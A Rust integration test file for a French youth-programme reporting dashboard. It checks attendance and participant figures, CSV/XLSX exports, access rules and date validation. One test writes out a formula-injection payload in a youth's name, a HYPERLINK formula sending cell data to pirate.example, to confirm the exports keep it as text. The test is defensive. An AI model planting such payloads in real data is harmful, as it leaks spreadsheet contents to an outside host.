//! The programme's figures on a generated year, on SQLite and on PostgreSQL: the dashboard (for
//! the federation and for one Mission Locale), the funder's exports as CSV and XLSX, who may see
//! them, and bad periods. The expected totals are recomputed here, straight from what the
//! generator says it wrote, never with the code under test.

use crate::support;

use std::collections::{HashMap, HashSet};

use app::server_fns::ViewDashboard;
use calamine::{Data, Reader, Xlsx};
use chrono::{Datelike, Months, NaiveDate};
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};
use shared::domain::{
    Dashboard, Gender, MissionLocaleId, PARIS, PersonId, SessionStatus, SheetState,
};
use shared::entities::{person, staff_member, workshop_session, youth};
use shared::services::{
    ActivityScale, GeneratedActivity, GeneratedSession, generate_past_activity,
};
use support::{Seed, TestApp, server_fn_path};

/// What the figures must say, computed the plain way from the generated sessions.
#[derive(Debug, Default, PartialEq)]
struct Expected {
    sessions_held: u32,
    places_offered: u32,
    places_taken: u32,
    registered_attended: u32,
    walk_ins: u32,
    attended_minutes: i64,
    youths_attending: u32,
    /// Women, men, undisclosed.
    attendances_by_gender: [u32; 3],
    sheets_not_closed: u32,
    /// Confirmed lines of the sessions held (what the attendance export lists).
    lines: usize,
}

fn paris_day(session: &GeneratedSession) -> NaiveDate {
    session.starts_at.with_timezone(&PARIS).date_naive()
}

fn expected(
    activity: &GeneratedActivity,
    mission_locale: Option<MissionLocaleId>,
    from: NaiveDate,
    to: NaiveDate,
) -> Expected {
    let now = support::now();
    let gender: HashMap<PersonId, Gender> = activity
        .youths
        .iter()
        .map(|youth| (youth.person_id, youth.gender))
        .collect();
    let mut expected = Expected::default();
    let mut youths = HashSet::new();
    for session in &activity.sessions {
        let held = !session.cancelled
            && session.ends_at <= now
            && paris_day(session) >= from
            && paris_day(session) <= to
            && mission_locale.is_none_or(|id| id == session.mission_locale_id);
        if !held {
            continue;
        }
        expected.sessions_held += 1;
        expected.places_offered += session.capacity;
        expected.places_taken += session.registered.len() as u32;
        if !matches!(session.sheet, Some(SheetState::Closed | SheetState::Paper)) {
            expected.sheets_not_closed += 1;
        }
        expected.lines += session.lines.len();
        for (youth_id, status, walk_in) in &session.lines {
            if !status.attended() {
                continue;
            }
            if *walk_in {
                expected.walk_ins += 1;
            } else {
                expected.registered_attended += 1;
            }
            expected.attended_minutes += (session.ends_at - session.starts_at).num_minutes();
            youths.insert(*youth_id);
            let index = match gender[youth_id] {
                Gender::Female => 0,
                Gender::Male => 1,
                Gender::Undisclosed => 2,
            };
            expected.attendances_by_gender[index] += 1;
        }
    }
    expected.youths_attending = youths.len() as u32;
    expected
}

fn actual(dashboard: &Dashboard) -> Expected {
    let total = &dashboard.total;
    Expected {
        sessions_held: total.sessions_held,
        places_offered: total.places_offered,
        places_taken: total.places_taken,
        registered_attended: total.registered_attended,
        walk_ins: total.walk_ins,
        attended_minutes: total.attended_minutes,
        youths_attending: total.youths_attending,
        attendances_by_gender: total.attendances_by_gender,
        sheets_not_closed: dashboard.sheets_not_closed,
        lines: 0,
    }
}

async fn dashboard(app: &TestApp, token: &str, form: &[(&str, &str)]) -> reqwest::Response {
    let mut fields: Vec<(&str, String)> = vec![
        ("form[mission_locale]", String::new()),
        ("form[from]", String::new()),
        ("form[to]", String::new()),
    ];
    for (key, value) in form {
        let key = match *key {
            "mission_locale" => "form[mission_locale]",
            "from" => "form[from]",
            _ => "form[to]",
        };
        fields.retain(|(field, _)| *field != key);
        fields.push((key, (*value).to_owned()));
    }
    app.call(server_fn_path::<ViewDashboard>(), &fields, Some(token))
        .await
}

async fn dashboard_ok(app: &TestApp, token: &str, form: &[(&str, &str)]) -> Dashboard {
    let response = dashboard(app, token, form).await;
    let status = response.status();
    let body = response.text().await.unwrap();
    assert_eq!(status, 200, "{body}");
    serde_json::from_str(&body).unwrap()
}

/// Participants the plain way, from the rows: followed in `mission_locale` (their referent's),
/// entered by `to`, programme (to the exit, or twelve months) not over before `from`. Returns (participants, without phone nor email,
/// exited by `to`, positive exits).
async fn expected_participants(
    app: &TestApp,
    mission_locale: Option<MissionLocaleId>,
    from: NaiveDate,
    to: NaiveDate,
) -> (u32, u32, u32, u32) {
    let people: HashMap<PersonId, person::Model> = person::Entity::find()
        .all(&app.db)
        .await
        .unwrap()
        .into_iter()
        .map(|person| (person.id, person))
        .collect();
    let staff: HashMap<PersonId, Option<MissionLocaleId>> = staff_member::Entity::find()
        .all(&app.db)
        .await
        .unwrap()
        .into_iter()
        .map(|staff| (staff.person_id, staff.mission_locale_id))
        .collect();
    let mut counts = (0, 0, 0, 0);
    for youth in youth::Entity::find().all(&app.db).await.unwrap() {
        if mission_locale.is_some_and(|id| staff[&youth.referent_id] != Some(id)) {
            continue;
        }
        // Without an exit, the programme lasts twelve months.
        let last_day = youth.programme_exit_date.unwrap_or(
            youth
                .programme_entry_date
                .checked_add_months(Months::new(12))
                .unwrap()
                .pred_opt()
                .unwrap(),
        );
        if youth.programme_entry_date > to || last_day < from {
            continue;
        }
        counts.0 += 1;
        let person = &people[&youth.person_id];
        if person.email.is_none() && person.phone.is_none() {
            counts.1 += 1;
        }
        if youth.programme_exit_date.is_some_and(|exit| exit <= to) {
            counts.2 += 1;
            if matches!(
                youth.exit_outcome.as_deref(),
                Some("employment" | "training" | "return_to_education")
            ) {
                counts.3 += 1;
            }
        }
    }
    counts
}

fn french_number(text: &str) -> f64 {
    text.replace(',', ".").parse().unwrap_or(0.0)
}

on_both_databases!(
    figures_on_a_generated_year,
    Seed::Demo,
    |app: TestApp| async move {
        let now = support::now();
        let activity = generate_past_activity(
            &app.db,
            7,
            ActivityScale {
                youths_per_mission_locale: 12,
                sessions: 240,
            },
            now,
        )
        .await
        .unwrap();
        // The demo's own full day (its sheet left to close on the last working day) is not part
        // of the generated year: cancelled, it is not held, and the figures are the year's.
        workshop_session::Entity::update_many()
            .col_expr(
                workshop_session::Column::Status,
                sea_orm::sea_query::Expr::value(SessionStatus::Cancelled),
            )
            .filter(workshop_session::Column::EndsAt.lte(now))
            .filter(
                workshop_session::Column::Id
                    .is_not_in(activity.sessions.iter().map(|session| session.session_id)),
            )
            .exec(&app.db)
            .await
            .unwrap();
        let today = now.with_timezone(&PARIS).date_naive();
        // The default period: this month and the eleven before.
        let from = today
            .with_day(1)
            .unwrap()
            .checked_sub_months(Months::new(11))
            .unwrap();
        let coordinator = staff_member::Entity::find()
            .filter(staff_member::Column::Role.eq("coordinator"))
            .one(&app.db)
            .await
            .unwrap()
            .unwrap()
            .person_id;
        let coordinator = app.session_for(coordinator).await;

        // The federation over the last twelve months.
        let federation = dashboard_ok(&app, &coordinator, &[]).await;
        let wanted = expected(&activity, None, from, today);
        assert!(wanted.sessions_held > 150, "a realistic year: {wanted:?}");
        assert!(wanted.walk_ins > 0 && wanted.sheets_not_closed > 0);
        assert_eq!(actual(&federation), Expected { lines: 0, ..wanted });
        assert_eq!((federation.query.from, federation.query.to), (from, today));
        assert!(federation.scope.starts_with("Fédération"));
        // By theme and by month, the rows add up to the total.
        for rows in [&federation.by_theme, &federation.by_month] {
            assert_eq!(
                rows.iter().map(|row| row.sessions_held).sum::<u32>(),
                wanted.sessions_held
            );
            assert_eq!(
                rows.iter().map(|row| row.attendances()).sum::<u32>(),
                wanted.registered_attended + wanted.walk_ins
            );
        }
        let theme_sessions: HashMap<&str, u32> = federation
            .by_theme
            .iter()
            .map(|row| (row.label.as_str(), row.sessions_held))
            .collect();
        for theme in shared::domain::Theme::ALL {
            let held = activity
                .sessions
                .iter()
                .filter(|session| {
                    session.theme == theme
                        && !session.cancelled
                        && session.ends_at <= now
                        && paris_day(session) >= from
                })
                .count() as u32;
            assert_eq!(
                theme_sessions.get(theme.label()).copied().unwrap_or(0),
                held
            );
        }
        let (participants, unreachable, exited, positive) =
            expected_participants(&app, None, from, today).await;
        assert_eq!(
            (
                federation.participants.participants,
                federation.participants.unreachable,
                federation.participants.exited,
                federation.participants.positive_exits
            ),
            (participants, unreachable, exited, positive)
        );
        assert_eq!(
            federation
                .by_gender
                .iter()
                .map(|row| row.participants)
                .sum::<u32>(),
            participants
        );
        // Exits against the 70 % target: one row per Mission Locale, each recomputed here.
        let mut names: Vec<(MissionLocaleId, String)> =
            shared::entities::mission_locale::Entity::find()
                .all(&app.db)
                .await
                .unwrap()
                .into_iter()
                .map(|ml| (ml.id, ml.name))
                .collect();
        names.sort_by(|a, b| a.1.cmp(&b.1));
        assert_eq!(federation.exits_by_mission_locale.len(), names.len());
        for ((id, name), row) in names.iter().zip(&federation.exits_by_mission_locale) {
            let (_, _, exited, positive) =
                expected_participants(&app, Some(*id), from, today).await;
            assert_eq!(row.mission_locale, *name);
            assert_eq!(
                (row.participants.exited, row.participants.positive_exits),
                (exited, positive)
            );
            let expected_target = if exited == 0 {
                shared::domain::ExitTarget::NoExit
            } else if f64::from(positive) * 100.0 / f64::from(exited) >= 70.0 {
                shared::domain::ExitTarget::Met
            } else {
                shared::domain::ExitTarget::Below
            };
            assert_eq!(row.participants.exit_target(), expected_target, "{name}");
        }

        // Individual contacts by kind, recomputed from what was generated (the demo records
        // none of its own).
        for row in &federation.individual_contacts {
            let held: Vec<(PersonId, u32)> = activity
                .youths
                .iter()
                .flat_map(|youth| {
                    youth
                        .contacts
                        .iter()
                        .map(move |contact| (youth.person_id, contact))
                })
                .filter(|(_, (day, kind, _))| {
                    (from..=today).contains(day) && row.kind.is_none_or(|wanted| wanted == *kind)
                })
                .map(|(youth, (_, _, minutes))| (youth, *minutes))
                .collect();
            let youths: std::collections::HashSet<PersonId> =
                held.iter().map(|(youth, _)| *youth).collect();
            assert_eq!(
                (row.contacts, row.youths, row.duration.clone()),
                (
                    held.len() as u32,
                    youths.len() as u32,
                    shared::domain::format_duration(held.iter().map(|(_, minutes)| minutes).sum())
                ),
                "{}",
                row.label()
            );
        }
        assert!(
            federation.individual_contacts[4].contacts > 50,
            "a realistic year"
        );

        // One Mission Locale, and a shorter period.
        let mission_locale = activity.sessions[0].mission_locale_id;
        // Five months within the generated year, ending a month ago.
        let shorter = (
            today - chrono::Duration::days(180),
            today - chrono::Duration::days(30),
        );
        let one = dashboard_ok(
            &app,
            &coordinator,
            &[
                ("mission_locale", &mission_locale.to_string()),
                ("from", &shorter.0.to_string()),
                ("to", &shorter.1.to_string()),
            ],
        )
        .await;
        let wanted_one = expected(&activity, Some(mission_locale), shorter.0, shorter.1);
        assert_eq!(
            actual(&one),
            Expected {
                lines: 0,
                ..wanted_one
            }
        );
        assert!(wanted_one.sessions_held > 0);
        let (participants, unreachable, exited, positive) =
            expected_participants(&app, Some(mission_locale), shorter.0, shorter.1).await;
        assert_eq!(
            (
                one.participants.participants,
                one.participants.unreachable,
                one.participants.exited,
                one.participants.positive_exits
            ),
            (participants, unreachable, exited, positive)
        );

        // A counsellor sees their own Mission Locale, not another's.
        let counsellor = staff_member::Entity::find()
            .filter(staff_member::Column::Role.eq("counsellor"))
            .filter(staff_member::Column::MissionLocaleId.eq(mission_locale))
            .one(&app.db)
            .await
            .unwrap()
            .unwrap()
            .person_id;
        let counsellor = app.session_for(counsellor).await;
        let own = dashboard_ok(&app, &counsellor, &[]).await;
        assert_eq!(own.query.mission_locale_id, Some(mission_locale));
        assert_eq!(
            actual(&own),
            Expected {
                lines: 0,
                ..expected(&activity, Some(mission_locale), from, today)
            }
        );
        assert!(own.choices.is_empty());
        let other = activity
            .sessions
            .iter()
            .map(|session| session.mission_locale_id)
            .find(|id| *id != mission_locale)
            .unwrap();
        let refused = dashboard(&app, &counsellor, &[("mission_locale", &other.to_string())]).await;
        assert_eq!(refused.status(), 403);
        let federation_refused = app
            .get_as(
                &format!("/chiffres/presences.csv?ml={other}"),
                Some(&counsellor),
            )
            .await;
        assert_eq!(federation_refused.status(), 403);

        // Bad periods get a French message.
        for (form, words) in [
            (
                [("from", "2026-06-01"), ("to", "2026-05-01")],
                "La date de début doit précéder la date de fin.",
            ),
            (
                [("from", "le 3 mars"), ("to", "")],
                "La date de début n'est pas une date valide.",
            ),
        ] {
            let response = dashboard(&app, &coordinator, &form).await;
            let status = response.status();
            let body = response.text().await.unwrap();
            assert!(status.is_client_error(), "{status}: {body}");
            assert!(body.contains(words), "{body}");
        }

        // The attendance lines as CSV for French Excel: BOM, `;`, one row per confirmed line,
        // hours adding up to the attended time.
        let csv = app
            .get_as("/chiffres/presences.csv", Some(&coordinator))
            .await;
        assert_eq!(csv.status(), 200);
        assert_eq!(
            csv.headers()["content-type"].to_str().unwrap(),
            "text/csv; charset=utf-8"
        );
        assert!(
            csv.headers()["content-disposition"]
                .to_str()
                .unwrap()
                .contains("presences-federation-")
        );
        let bytes = csv.bytes().await.unwrap();
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(&bytes[3..]);
        let headers = reader.headers().unwrap().clone();
        assert_eq!(&headers[0], "Mission Locale");
        let hours_column = headers.iter().position(|name| name == "Heures").unwrap();
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), wanted.lines);
        let hours: f64 = rows
            .iter()
            .map(|row| french_number(&row[hours_column]))
            .sum();
        assert!((hours - wanted.attended_minutes as f64 / 60.0).abs() < 0.05);
        let registration = headers
            .iter()
            .position(|name| name == "Inscription")
            .unwrap();
        assert!(
            rows.iter()
                .any(|row| &row[registration] == "sans inscription")
        );
        // Sessions of one half-day leave the half-day column empty.
        let half_day = headers
            .iter()
            .position(|name| name == "Demi-journée")
            .unwrap();
        assert!(rows.iter().all(|row| row[half_day].is_empty()));

        // The same as XLSX, read back with calamine: numbers are numbers, dates are dates.
        let xlsx = app
            .get_as("/chiffres/presences.xlsx", Some(&coordinator))
            .await;
        assert_eq!(xlsx.status(), 200);
        let mut workbook: Xlsx<_> =
            Xlsx::new(std::io::Cursor::new(xlsx.bytes().await.unwrap().to_vec())).unwrap();
        let sheet = workbook.worksheet_range("Présences").unwrap();
        assert_eq!(sheet.height(), wanted.lines + 1);
        let hours: f64 = sheet
            .rows()
            .skip(1)
            .map(|row| match &row[hours_column] {
                Data::Float(hours) => *hours,
                other => panic!("hours should be a number, got {other:?}"),
            })
            .sum();
        assert!((hours - wanted.attended_minutes as f64 / 60.0).abs() < 0.001);
        assert!(matches!(sheet.get((1, 4)), Some(Data::DateTime(_))));

        // Participants: one row each, positive exits marked, and the summary sheet.
        let participants_csv = app
            .get_as(
                &format!("/chiffres/participants.csv?ml={mission_locale}"),
                Some(&counsellor),
            )
            .await;
        assert_eq!(participants_csv.status(), 200);
        let bytes = participants_csv.bytes().await.unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(&bytes[3..]);
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        let (participants, _, exited, positive) =
            expected_participants(&app, Some(mission_locale), from, today).await;
        assert_eq!(rows.len() as u32, participants);
        assert_eq!(
            rows.iter().filter(|row| &row[8] == "oui").count() as u32,
            positive
        );
        assert_eq!(
            rows.iter().filter(|row| !row[6].is_empty()).count() as u32,
            exited
        );
        let xlsx = app
            .get_as("/chiffres/participants.xlsx", Some(&coordinator))
            .await;
        let mut workbook: Xlsx<_> =
            Xlsx::new(std::io::Cursor::new(xlsx.bytes().await.unwrap().to_vec())).unwrap();
        assert_eq!(workbook.sheet_names(), ["Participants", "Synthèse"]);
        let summary = workbook.worksheet_range("Synthèse").unwrap();
        assert_eq!(
            summary.get((2, 1)),
            Some(&Data::Float(f64::from(
                federation.participants.participants
            )))
        );
        let target_line = (0..summary.height())
            .find(|row| {
                summary
                    .get((*row, 0))
                    .is_some_and(|cell| cell.to_string().starts_with("Objectif du programme"))
            })
            .expect("the 70 % target in the summary");
        assert_eq!(
            summary.get((target_line, 1)).map(ToString::to_string),
            Some(federation.participants.exit_target().label().to_owned())
        );

        // Youths, guests and the anonymous get no figures.
        let youth = activity.youths[0].person_id;
        let youth = app.session_for(youth).await;
        assert_eq!(dashboard(&app, &youth, &[]).await.status(), 403);
        assert_eq!(
            app.get_as("/chiffres/participants.csv", Some(&youth))
                .await
                .status(),
            403
        );
        assert_eq!(
            app.get_as("/chiffres/participants.csv", None)
                .await
                .status(),
            401
        );
        assert_eq!(
            app.get_as("/chiffres/inconnu.csv", Some(&coordinator))
                .await
                .status(),
            404
        );

        // The page shows the same totals to a person.
        let page = app
            .get_as("/chiffres", Some(&coordinator))
            .await
            .text()
            .await
            .unwrap();
        assert!(page.contains(&format!(
            "<span class=\"figures-card__value\">{}</span>",
            wanted.sessions_held
        )));
        assert!(page.contains("Joignabilité"));
    }
);

/// Reads a CSV export (BOM, `;`) as rows of cells, the header first.
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
    csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(&bytes[3..])
        .records()
        .map(|row| row.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

on_both_databases!(
    a_name_written_as_a_formula_stays_text_in_the_exports,
    Seed::Demo,
    |app: TestApp| async move {
        use sea_orm::{ActiveModelTrait, Set};

        let now = support::now();
        let activity = generate_past_activity(
            &app.db,
            11,
            ActivityScale {
                youths_per_mission_locale: 3,
                sessions: 40,
            },
            now,
        )
        .await
        .unwrap();
        // A youth who attended a session held in the last months: in both exports.
        let today = now.with_timezone(&PARIS).date_naive();
        let youth_id = activity
            .sessions
            .iter()
            .filter(|session| !session.cancelled && session.ends_at <= now)
            .filter(|session| paris_day(session) >= today - chrono::Duration::days(300))
            .flat_map(|session| session.lines.iter())
            .find(|(_, status, _)| status.attended())
            .expect("an attended line")
            .0;
        // Names are parsed on input (letters only); this one came from elsewhere (an old
        // import, the database edited by hand): the exports must not run it.
        let formula = "=HYPERLINK(\"http://pirate.example/?\"&A1,\"Voir\")";
        let mut youth: person::ActiveModel = person::Entity::find_by_id(youth_id)
            .one(&app.db)
            .await
            .unwrap()
            .unwrap()
            .into();
        youth.last_name = Set(formula.to_owned());
        youth.first_name = Set("@SOMME(A1:A9)".to_owned());
        youth.update(&app.db).await.unwrap();
        let coordinator = staff_member::Entity::find()
            .filter(staff_member::Column::Role.eq("coordinator"))
            .one(&app.db)
            .await
            .unwrap()
            .unwrap()
            .person_id;
        let coordinator = app.session_for(coordinator).await;

        for export in ["participants", "presences"] {
            let response = app
                .get_as(&format!("/chiffres/{export}.csv"), Some(&coordinator))
                .await;
            assert_eq!(response.status(), 200);
            let rows = csv_rows(&response.bytes().await.unwrap());
            let last_name = rows[0].iter().position(|name| name == "Nom").unwrap();
            let first_name = rows[0].iter().position(|name| name == "Prénom").unwrap();
            let theirs: Vec<&Vec<String>> = rows
                .iter()
                .filter(|row| row[last_name].contains("HYPERLINK"))
                .collect();
            assert!(!theirs.is_empty(), "the youth is in the {export} export");
            for row in theirs {
                assert_eq!(row[last_name], format!("'{formula}"));
                assert_eq!(row[first_name], "'@SOMME(A1:A9)");
            }
            // No cell of the file would start a formula in Excel.
            for row in &rows {
                for cell in row {
                    assert!(
                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "{export}: « {cell} » would run as a formula"
                    );
                }
            }

            // XLSX keeps the name as text, never a formula.
            let xlsx = app
                .get_as(&format!("/chiffres/{export}.xlsx"), Some(&coordinator))
                .await;
            assert_eq!(xlsx.status(), 200);
            let mut workbook: Xlsx<_> =
                Xlsx::new(std::io::Cursor::new(xlsx.bytes().await.unwrap().to_vec())).unwrap();
            let sheet_name = workbook.sheet_names()[0].clone();
            let sheet = workbook.worksheet_range(&sheet_name).unwrap();
            assert!(
                sheet
                    .rows()
                    .any(|row| row[last_name] == Data::String(formula.to_owned())),
                "the name is a string cell in the {export} workbook"
            );
            let formulas = workbook.worksheet_formula(&sheet_name).unwrap();
            assert!(
                formulas
                    .used_cells()
                    .all(|(_, _, formula)| formula.is_empty()),
                "no formula in the {export} workbook"
            );
        }
    }
);
